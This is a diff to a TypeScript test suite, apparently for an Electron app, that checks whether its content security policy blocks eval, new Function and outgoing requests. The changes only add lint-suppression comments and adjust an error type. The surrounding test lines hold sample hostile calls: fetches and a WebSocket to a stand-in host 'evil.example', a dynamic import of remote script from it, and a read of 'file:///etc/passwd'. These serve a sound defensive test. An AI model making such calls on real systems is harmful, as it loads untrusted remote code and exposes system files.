@@ -156,6 +156,7 @@ describe('the content security policy', () => {
       await new Promise<void>((resolve) =>
         setTimeout(() => {
           // Outside the debugger's own evaluation, where the policy would not count.
+          // oxlint-disable-next-line no-eval, no-new-func, typescript/no-implied-eval -- these have to be refused
           for (const attempt of [() => (0, eval)('1'), () => new Function('return 1')()]) {
             try {
               attempt();
@@ -170,6 +171,7 @@ describe('the content security policy', () => {
         () => fetch('https://evil.example/'),
         () => fetch('file:///etc/passwd'),
         () => new Promise((_, reject) => (new WebSocket('wss://evil.example').onerror = reject)),
+        // oxlint-disable-next-line typescript/no-unnecessary-type-assertion -- else TypeScript looks for the module
         () => import(/* @vite-ignore */ 'https://evil.example/m.js' as string),
       ]) {
         await Promise.resolve()
@@ -327,7 +329,7 @@ describe('the session', () => {
     const failure = await launched.app.evaluate(async ({ net }) =>
       net.fetch('http://127.0.0.1:9/').then(
         () => 'answered',
-        (error: Error) => error.message,
+        (error: unknown) => (error as Error).message,
       ),
     );
     expect(failure).toContain('ERR_BLOCKED_BY_CLIENT');
